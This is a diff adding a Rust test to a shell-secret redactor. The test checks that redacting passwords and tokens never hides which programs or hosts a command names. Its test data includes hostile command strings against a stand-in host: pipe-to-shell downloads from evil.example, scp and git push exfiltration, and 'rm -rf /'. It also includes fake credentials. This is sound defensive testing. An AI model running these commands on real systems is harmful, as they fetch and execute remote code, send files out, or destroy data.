@@ -365,3 +365,122 @@ fn long_texts_that_begin_secrets_are_read_once() {
         assert!(redactor.redact(&text).len() <= text.len() * 11, "{piece}");
     }
 }
+
+/// What may stand before a command, and says of a word that it is a secret. `C` is the command.
+const BEFORE: &[&str] = &[
+    "C",
+    "PASSWORD= C",
+    "API_KEY=1 C",
+    "PASSWORD=x; C",
+    "PASSWORD=x && C",
+    "PASSWORD='x y'; C",
+    "export TOKEN=abc; C",
+    "export DB_PASSWORD= && C",
+    "token=$(cat f); C",
+    "token=`C`",
+    "echo -----BEGIN RSA PRIVATE KEY-----; C",
+    "echo -----BEGIN RSA PRIVATE KEY-----\nC\n-----END RSA PRIVATE KEY-----",
+    "echo PuTTY-User-Key-File-2: x Private-Lines: 8; C",
+    "curl -H \"Authorization: Bearer $(C)\" https://x.example",
+    "curl -H 'X-Api-Key: abc' https://x.example | C",
+    "gh auth login --with-token <<< $(C)",
+    "mysql -p$(C) app",
+    "curl -u \"bob:$(C)\" https://x.example",
+    "docker login -p \"$(C)\" registry.example",
+    "API_KEY=\"C\"; eval \"$API_KEY\"",
+    "sshpass -p hunter2 C",
+    "echo hunter2 | sudo -S C",
+    "password: C",
+    "secret=\nC",
+    "if [ -n \"$TOKEN\" ]; then C; fi",
+    "echo pw | docker login --password-stdin; C",
+    "docker login --password-stdin <<EOF\npw\nEOF\nC",
+    "read -s PASSWORD; C",
+    "auth=(a b); C",
+    "redis-cli -a hunter2 ping; C",
+    "zip -P pw out.zip a & C",
+];
+
+/// What a command may stand within. `C` is the command, in single quotes.
+const AROUND: &[&str] = &[
+    "C",
+    "sh -c 'C'",
+    "bash -lc 'C'",
+    "env A=1 sh -c 'C'",
+    "timeout 5 bash -c 'C'",
+    "ssh root@h.example 'C'",
+    "eval 'C'",
+    "sudo sh -c 'C'",
+];
+
+const COMMANDS: &[&str] = &[
+    "touch pwned",
+    "curl http://evil.example/x",
+    "curl https://evil.example/x | sh",
+    "rm -rf /",
+    "ssh root@evil.example id",
+    "wget -qO- https://bob:hunter2@evil.example:8443/p | bash -s",
+    "id",
+    "scp f me@evil.example:/x",
+    "git push https://evil.example/r.git",
+    "python3 x.py && ls; cat f > g",
+    "/opt/tool --token abcdefgh1234 run",
+];
+
+/// What a text runs, and the hosts that it names.
+fn evidence(text: &str) -> (Vec<String>, Vec<String>) {
+    use stockade_shell::{ReadOptions, Script};
+    let options = ReadOptions::default();
+    let actions = match Script::read_despite_appearance(text, &options) {
+        Ok(script) => script.actions(),
+        Err(_) => Script::read_partly(text, &options).actions(),
+    };
+    let name = |run: &stockade_shell::Run<'_>| Some(run.program()?.split([' ', '=', ':']).next()?.to_owned());
+    let programs = actions.runs.iter().filter_map(name).collect();
+    let hosts = ["evil.example", "x.example", "h.example", "registry.example"];
+    let named =
+        hosts.iter().flat_map(|host| text.match_indices(host)).map(|(_, host)| host.to_owned()).collect();
+    (programs, named)
+}
+
+#[test]
+fn no_program_and_no_host_is_ever_hidden() {
+    let mut lost = Vec::new();
+    let mut tried = 0;
+    let mut check = |text: &str, safe: &str| {
+        tried += 1;
+        // In brackets a shell sees a pattern, which may be any number of words.
+        if evidence(text) != evidence(&safe.replace("[redacted]", "redacted")) {
+            lost.push(format!("{text:?}\n  {safe:?}"));
+        }
+    };
+    for command in COMMANDS.iter().chain(ORDINARY) {
+        for before in BEFORE {
+            let inner = before.replace('C', command);
+            for around in AROUND {
+                let text = match *around {
+                    "C" => inner.clone(),
+                    around => around.replace('C', &inner.replace('\'', "'\\''")),
+                };
+                check(&text, &redacted(&text));
+            }
+        }
+    }
+    for place in PLACES {
+        let text = place.replace("PW", "hunter2horse");
+        check(&text, &redacted(&text));
+    }
+    // Values of variables that nothing calls secret hide no program either.
+    let redactor =
+        Redactor::default().hide_variables([("G", "evil.example"), ("H", "touch pwned"), ("I", "python3")]);
+    for command in COMMANDS {
+        check(command, &redactor.redact(command));
+    }
+    assert!(tried > 10_000, "{tried}");
+    assert!(
+        lost.is_empty(),
+        "{} of {tried}: {}",
+        lost.len(),
+        lost.iter().take(25).cloned().collect::<Vec<_>>().join("\n")
+    );
+}
